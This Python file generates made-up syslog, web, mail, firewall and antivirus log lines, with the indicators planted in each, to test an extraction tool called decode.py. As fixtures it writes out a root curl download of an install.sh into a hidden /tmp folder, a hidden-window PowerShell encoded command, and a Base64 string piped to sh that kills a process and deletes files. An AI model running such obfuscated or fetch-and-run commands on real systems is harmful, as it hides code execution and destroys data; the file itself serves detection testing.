"""Cells of made-up evidence for decode.py: each with what was put into it, so that what is found can be compared.

All names lie below example.com, example.net and example.org; the public addresses are drawn by chance.
"""

import base64
import random

# What was put into one cell: pairs of a type and a value. The host of a URL counts, that of an e-mail address does not.
Planted = list[tuple[str, str]]


def message(rng: random.Random) -> tuple[str, Planted]:
    """A syslog message: three of four hold nothing but times, versions, paths and numbers that look like something."""
    return rng.choice(TELLING if rng.random() < 0.25 else PLAIN)(rng)


def public_v4(rng: random.Random) -> str:
    return ".".join(map(str, [rng.choice([8, 20, 52, 81, 104, 185]), *(rng.randint(1, 254) for _ in range(3))]))


def private_v4(rng: random.Random) -> str:
    return f"10.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"


def v6(rng: random.Random, prefix: str) -> str:
    return f"{prefix}:{rng.randint(1, 65535):x}::{rng.randint(4096, 65535):x}:{rng.randint(4096, 65535):x}"


def host(rng: random.Random) -> str:
    label = rng.choice(["cdn", "mail", "update", "static", "api", "drop", "files", "ns"])
    return f"{label}-{rng.randint(1, 99999)}.example.{rng.choice(['com', 'net', 'org'])}"


def user(rng: random.Random) -> str:
    return rng.choice(["alice", "bob", "carol", "dave", "svc-backup", "root", "www-data", "oracle", "deploy"])


def clock(rng: random.Random) -> str:
    return f"{rng.randint(0, 23):02}:{rng.randint(0, 59):02}:{rng.randint(0, 59):02}"


def hexadecimal(rng: random.Random, n_digits: int) -> str:
    # A hash of digits alone, or of one digit, would be none.
    return f"a1{rng.getrandbits(4 * (n_digits - 2)):0{n_digits - 2}x}"


def suspended(rng: random.Random) -> tuple[str, Planted]:
    n, when = rng.randint(0, 99999), clock(rng)
    text = f"action 'action-{n}' suspended (module 'builtin:omfwd'), next retry is Mon May  3 {when} 2021, "
    return text + f"retry nbr {n}, see the messages before", []


def session(rng: random.Random) -> tuple[str, Planted]:
    name, n = user(rng), rng.randint(1, 999999)
    text = f"pam_unix(cron:session): session opened for user {name} by (uid=0); session-{n}.scope: "
    return text + f"{rng.random():.3f}s CPU time since {clock(rng)}", []


def sudo(rng: random.Random) -> tuple[str, Planted]:
    name, n = user(rng), rng.randint(1, 99999)
    text = f"{name} : TTY=pts/{n % 9} ; PWD=/home/{name}/release-{n} ; USER=root ; "
    return text + f"COMMAND=/usr/bin/python3 /opt/deploy/setup.py --log /var/log/deploy/run-{n}.log --wait", []


def kernel(rng: random.Random) -> tuple[str, Planted]:
    n = rng.randint(1, 99999999)
    text = f"[{n / 1000:.6f}] CPU{n % 64}: Core temperature above threshold, cpu clock throttled (total events = {n}), "
    return text + f"version 4.{n % 20}.{n % 7}.1", []


def unit(rng: random.Random) -> tuple[str, Planted]:
    n = rng.randint(1, 99999)
    text = f"systemd[1]: snap.agent.daemon-{n}.service: Main process exited, code=exited, status={n % 200}/FAILURE; "
    return text + f"restart at 2021-05-03T{clock(rng)}.{n:06}Z", []


def failed_login(rng: random.Random) -> tuple[str, Planted]:
    address, n = public_v4(rng), rng.randint(1024, 65535)
    text = f"sshd[{n}]: Failed password for invalid user {user(rng)} from {address} port {n} ssh2; "
    return text + f"2 more failures, last at {clock(rng)} on pts/{n % 9}", [("ipv4", address)]


def login_v6(rng: random.Random) -> tuple[str, Planted]:
    address, n = v6(rng, "2a02:26f0"), rng.randint(1024, 65535)
    text = f"sshd[{n}]: Accepted password for {user(rng)} from {address} port {n} ssh2 at {clock(rng)}, "
    return text + f"session-{n} of 12 started on seat0 by the login manager", [("ipv6", address)]


def web_request(rng: random.Random) -> tuple[str, Planted]:
    address, name, n = public_v4(rng), host(rng), rng.randint(1, 99999)
    url = f"https://{name}/shop/item-{n}?page={n % 7}"
    text = f'{address} - - [03/May/2021:{clock(rng)} +0000] "GET /static/app-{n}.js HTTP/1.1" 200 {n} '
    return text + f'"{url}" "Mozilla/5.0"', [("ipv4", address), ("dns", name), ("url", url)]


def download(rng: random.Random) -> tuple[str, Planted]:
    name, n = host(rng), rng.randint(1, 99999)
    url = f"http://{name}/pkg/{n}/install.sh"
    text = f"{user(rng)} : TTY=unknown ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL {url} -o /tmp/.cache/{n}"
    return text, [("dns", name), ("url", url)]


def mail(rng: random.Random) -> tuple[str, Planted]:
    address, name, relay = f"{user(rng)}.{rng.randint(1, 99999)}@{host(rng)}", host(rng), public_v4(rng)
    text = f"postfix/smtp[{rng.randint(100, 99999)}]: to=<{address}>, relay={name}[{relay}]:25, "
    text += f"delay={rng.random():.2f}, delays=0.1/0.01/0.5/0.3, dsn=2.0.0, status=sent"
    return text, [("email", address), ("dns", name), ("ipv4", relay)]


def firewall(rng: random.Random) -> tuple[str, Planted]:
    source, target, n = public_v4(rng), private_v4(rng), rng.randint(1024, 65535)
    text = "[UFW BLOCK] IN=eth0 OUT= MAC=00:0d:3a:1f:22:08:12:34:56:78:9a:bc:08:00 "
    text += f"SRC={source} DST={target} LEN=40 TTL={n % 255} ID={n} PROTO=TCP SPT={n} DPT=22"
    return text, [("ipv4", source), ("ipv4", target)]


def scan(rng: random.Random) -> tuple[str, Planted]:
    kind, n_digits = rng.choice([("md5_hash", 32), ("sha1_hash", 40), ("sha256_hash", 64)])
    value = hexadecimal(rng, n_digits)
    text = f"clamd[{rng.randint(100, 9999)}]: /srv/upload/part-{rng.randint(1, 99999)}.bin: "
    return text + f"Win.Test.Agent-{n_digits} FOUND, digest {value}", [(kind, value)]


def alert(rng: random.Random) -> tuple[str, Planted]:
    cve = f"CVE-{rng.randint(2015, 2021)}-{rng.randint(1000, 49999)}"
    source, target = public_v4(rng), private_v4(rng)
    text = f"snort[814]: [1:{rng.randint(20000, 59999)}:2] SERVER-OTHER attempt ({cve}) [Priority: 1] "
    text += f"{{TCP}} {source}:{rng.randint(1024, 65535)} -> {target}:8080"
    return text, [("cve", cve), ("ipv4", source), ("ipv4", target)]


PLAIN = [suspended, session, sudo, kernel, unit]
TELLING = [failed_login, login_v6, web_request, download, mail, firewall, scan, alert]


def command_line(rng: random.Random) -> tuple[str, Planted]:
    """Half are PowerShell's encoded commands, half are pipes of plain Base64."""
    n = rng.randint(0, 2**32)
    if rng.random() < 0.5:
        script = f"$case = 'run-{n:x}'; Get-Process -Id {n % 9999} | Stop-Process -Force; Write-Output $case"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
        return f"powershell.exe -NoProfile -WindowStyle Hidden -enc {encoded}", [("script", script)]
    script = f"name=run-{n:x}; kill -9 {n % 9999}; rm -rf /tmp/$name; echo done with $name"
    encoded = base64.b64encode(script.encode()).decode()
    return f'bash -c "echo {encoded} | base64 -d | sh"', [("script", script)]


def address(rng: random.Random) -> tuple[str, Planted]:
    """An address of the usual kinds, or what logs write where they have none."""
    chance = rng.random()
    if chance < 0.5:
        return of_type("Public", public_v4(rng))
    if chance < 0.7:
        return of_type("Private", private_v4(rng))
    if chance < 0.8:
        return of_type("Public", v6(rng, "2a02:26f0"))
    if chance < 0.85:
        return of_type("Private", v6(rng, "fd12:3456"))
    if chance < 0.9:
        return of_type("Link Local", f"fe80::{rng.randint(4096, 65535):x}:{rng.randint(4096, 65535):x}")
    if chance < 0.92:
        return of_type("Loopback", f"127.0.{rng.randint(0, 254)}.{rng.randint(1, 254)}")
    return rng.choice(["-", "unknown", "LOCAL", "10.0.0", "999.1.2.3", "localhost"]), []


def of_type(kind: str, value: str) -> tuple[str, Planted]:
    return value, [(kind, value)]
